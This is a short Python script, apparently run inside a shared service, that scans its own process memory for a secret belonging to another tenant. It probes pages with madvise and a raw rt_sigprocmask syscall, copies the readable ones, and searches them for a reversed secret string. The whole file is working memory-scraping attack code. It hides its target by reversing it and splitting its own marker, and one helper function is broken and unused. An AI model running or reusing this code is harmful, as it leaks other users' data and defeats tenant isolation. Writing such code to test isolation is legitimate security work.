"""Looks through the memory around Python's objects for a text that another tenant's call had. The text comes turned round, so
that this call does not hold it itself; a text of its own shows that the search finds what is there."""
import ctypes

PAGE = 4096
REACH = 24 << 20


def pages(around, kernel):
    start = (around - REACH) & ~(PAGE - 1)
    for page in range(max(start, PAGE), start + 2 * REACH, PAGE):
        # MADV_NORMAL changes nothing and fails where nothing is mapped.
        if kernel.madvise(ctypes.c_void_p(page), ctypes.c_size_t(PAGE), 0) == 0:
            yield page


def readable(page, kernel):
    """The kernel copies from it, or says EFAULT: a signal mask is read from any address."""
    return kernel.rt_sigprocmask(page) == 0


def evaluate(log):
    kernel = ctypes.CDLL(None)
    number = 14
    copy = bytearray(PAGE)
    target = (ctypes.c_char * PAGE).from_buffer(copy)
    mine = "-".join(["put", "here", "by", "itself"]).encode()
    wanted = {"own": [mine[:9], mine[9:]], "secret": None}
    turned = log["turned"].encode()
    found = {"own": False, "secret": False}
    anchors = {id(object()) & ~0xFFFFF, id(log) & ~0xFFFFF, id(evaluate) & ~0xFFFFF, id(mine) & ~0xFFFFF, id(copy) & ~0xFFFFF}
    seen = set()
    for anchor in anchors:
        for page in pages(anchor, kernel):
            if page in seen or page <= ctypes.addressof(target) < page + PAGE:
                continue
            seen.add(page)
            # SIG_BLOCK of nothing: oldset is not asked for, the set is read from the page; EFAULT where it cannot be read.
            if kernel.syscall(number, 0, ctypes.c_void_p(page), ctypes.c_void_p(0), 8) != 0:
                continue
            ctypes.memmove(target, page, PAGE)
            backwards = bytes(copy[::-1])
            if turned in backwards:
                found["secret"] = True
            if wanted["own"][0] + wanted["own"][1] in copy:
                found["own"] = True
    return [f"{name}: {'found' if there else 'not found'}" for name, there in found.items()]
